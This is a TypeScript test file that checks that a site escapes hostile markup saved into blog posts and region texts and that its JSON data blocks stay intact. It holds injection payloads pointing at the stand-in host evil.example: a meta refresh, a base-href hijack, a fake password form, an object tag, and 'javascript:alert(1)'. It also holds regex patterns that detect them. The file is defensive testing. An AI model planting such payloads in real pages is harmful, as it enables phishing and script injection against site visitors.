import { blogPostBySlug, regionContent } from 'shared-contracts';
import { HOSTILE_TEXT } from 'shared-contracts/testing';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { upsertBlogPost, upsertRegionText } from '../features/admin/staff-content.repository';
import { markup } from '../platform/html/html';
import { isStorable } from '../platform/security/storable-text';
import { openWholeSite, type WholeSite } from './testing/whole-site';

/** What an account that was taken over would write: whatever could draw an element or leave a block of data. */
const MARKUP = [
  ...HOSTILE_TEXT.filter((text) => /[<>]/.test(text) && isStorable(text)),
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '--><form action="https://evil.example/"><input name="password">',
  ']]><object data="https://evil.example/x.swf">',
];
const ALL = MARKUP.join(' ');

let site: WholeSite;

beforeAll(async () => {
  site = await openWholeSite(20);
  await upsertBlogPost(site.database, {
    id: null,
    slug: 'taken-over',
    title: ALL,
    category: ALL,
    excerpt: ALL,
    body: [...MARKUP, ...MARKUP.map((text) => `## ${text}`), 'javascript:alert(1)'],
  });
  await upsertRegionText(site.database, { region_path: 'maui', title: ALL, summary: ALL, body: MARKUP });
}, 120_000);
afterAll(() => site.close());

test.each(['/', '/blog', '/blog/taken-over', '/listings/maui', '/regions', '/sitemap-pages.xml'])(
  'markup in posts and region texts stays text on %s (D32)',
  async (url) => {
    const { status, body } = await site.open(url);
    expect(status).toBe(200);
    expect(MARKUP.filter((text) => body.includes(text) && markup(text) !== text)).toEqual([]);
    expect(body).not.toMatch(/<[a-z][^>]*\s(?:href|src|action)="\s*javascript:/i);
    expect(body).not.toMatch(/<(?:iframe|svg|math|base|object|meta http-equiv)/i);
    // every block of data ends where it was meant to
    for (const [, json = ''] of body.matchAll(/<script type="application\/(?:ld\+)?json"[^>]*>([^<]*)<\/script>/g))
      expect(() => JSON.parse(json)).not.toThrow();
  },
);

test('calls return the text unchanged: the client renders it as text', async () => {
  const post = await site.app.inject('/api/v3/content/blog/posts/taken-over');
  expect(blogPostBySlug.answer.parse(post.json())?.post.title.rendered).toBe(ALL);
  const region = await site.app.inject('/api/v3/content?island=maui');
  expect(regionContent.answer.parse(region.json()).body).toEqual(MARKUP);
});
